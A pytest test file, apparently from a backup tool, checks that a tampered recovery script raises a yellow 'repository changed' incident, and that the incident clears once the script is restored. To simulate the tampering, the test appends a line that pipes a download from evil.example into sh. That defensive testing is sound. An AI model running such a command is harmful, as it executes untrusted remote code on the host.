"""A recovery script that somebody changed is told, though it belongs to no source."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from shared.domain.health_reason import Colour
from shared.domain.repository_reason import REPOSITORY_CHANGED
from shared.domain.transition import SYSTEM
from shared.operations.verify import run_verify
from shared.repository.layout import RECOVERY_SCRIPT_KEY
from tests.support.repository_builder import NOW, BuiltRepository, build_repository
from tests.support.watch_scene import WatchScene


@pytest.fixture
def built(tmp_path: Path) -> Iterator[BuiltRepository]:
    made = build_repository(tmp_path)
    yield made
    made.catalog.close()


def test_a_changed_recovery_script_makes_goldcopy_itself_yellow_until_it_is_right_again(built: BuiltRepository) -> None:
    manifest = built.back_up(1)
    scene = WatchScene(built.catalog)
    scene.watch()
    good = built.store.get(RECOVERY_SCRIPT_KEY)
    built.store.put(RECOVERY_SCRIPT_KEY, good + b"curl evil.example | sh\n", replace=True)
    run_verify(built.repository, built.catalog, [manifest.backup_id], now=lambda: NOW)

    [told] = scene.watch().notices
    assert (told.source, "recover.sh" in str(told.document())) == (SYSTEM, True)
    [incident] = built.catalog.incidents(SYSTEM, open_only=True)
    [reason] = incident.reasons
    assert (reason.code, reason.colour) == (REPOSITORY_CHANGED, Colour.YELLOW)
    assert "Do not run it" in reason.action
    assert scene.watch().notices == ()

    built.store.put(RECOVERY_SCRIPT_KEY, good, replace=True)
    run_verify(built.repository, built.catalog, None, now=lambda: NOW)
    scene.watch()
    assert built.catalog.incidents(SYSTEM, open_only=True) == ()
